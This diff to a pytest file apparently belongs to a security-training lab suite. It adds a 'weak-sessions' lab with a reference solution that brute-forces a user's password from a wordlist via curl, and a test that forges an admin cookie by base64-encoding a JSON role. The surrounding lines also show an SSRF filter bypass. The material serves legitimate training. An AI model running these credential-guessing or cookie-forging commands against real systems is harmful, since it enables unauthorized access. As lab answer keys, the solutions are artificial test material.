@@ -19,7 +19,7 @@ pytestmark = pytest.mark.docker
 
 FLAG = "FLAG{check-tasks}"
 AUTH_LOG = "/var/log/auth.log"
-INVOICES = PREVIEW = "http://target:8080"
+INVOICES = PREVIEW = PORTAL = "http://target:8080"
 SIGN_IN = (
     "curl -sf -c jar -b jar -o /dev/null --data-urlencode username=alice "
     f"--data-urlencode password=wonderland {INVOICES}/login"
@@ -147,6 +147,16 @@ SOLUTIONS: dict[str, list[Solution]] = {
             "cd ~/evidence && file * | grep 'PDF document' | cut -d: -f1 > ~/answer-file.txt",
         ),
     ],
+    "weak-sessions": [
+        Solution(
+            "bob-password",
+            "/home/trainee/answer-password.txt",
+            "while read -r p; do code=$(curl -s -o /dev/null -w '%{http_code}' "
+            '--data-urlencode username=bob --data-urlencode "password=$p" '
+            f'{PORTAL}/login); [ "$code" = 303 ] && echo "$p"; '
+            "done < /usr/share/wordlists/common-passwords.txt > ~/answer-password.txt; true",
+        )
+    ],
     "log-triage": [
         Solution(
             "attacker-ip", "/home/trainee/answer-ip.txt", f"{TOP_FAILING_IP} > ~/answer-ip.txt"
@@ -166,6 +176,7 @@ READY = {
     "rogue-listener": "ss -Htln | grep -q ':8080 ' && ss -Htln | grep -q ':9100 '",
     "broken-access": f"curl -sf -o /dev/null {INVOICES}/login",
     "ssrf": f"curl -sf -o /dev/null {PREVIEW}/",
+    "weak-sessions": f"curl -sf -o /dev/null {PORTAL}/login",
 }
 
 
@@ -310,3 +321,22 @@ def test_ssrf_filter_is_bypassed_for_the_metadata_secret(lab_session, lab_exec, 
     assert FLAG in preview(base.format("0x7f000001") + "shop-preview-role")
     code, _ = lab_exec(key, "workstation", "curl -s -m 3 http://target:9000/")
     assert code != 0  # the internal service is not reachable from outside
+
+
+def test_weak_sessions_cookie_is_forged_for_the_flag(lab_session, lab_exec, shipped_labs):
+    spec = shipped_labs["weak-sessions"]
+    key = lab_session(spec, FLAG).session_key
+    wait_ready(lab_exec, key, "weak-sessions", "workstation")
+    sign_in = (
+        "curl -s -c jar -o /dev/null --data-urlencode username=alice "
+        f"--data-urlencode password=wonderland {PORTAL}/login && "
+        "awk '$6 == \"session\" {print $7}' jar | base64 -d"
+    )
+    assert lab_exec(key, "workstation", sign_in)[1] == '{"user": "alice", "role": "staff"}'
+    denied = f"curl -s -b jar -o /dev/null -w '%{{http_code}}' {PORTAL}/admin"
+    assert lab_exec(key, "workstation", denied)[1] == "403"
+    forged = (
+        'cookie=$(printf %s \'{"user": "admin", "role": "admin"}\' | base64 -w0); '
+        f'curl -s -b "session=$cookie" {PORTAL}/admin'
+    )
+    assert FLAG in lab_exec(key, "workstation", forged)[1]
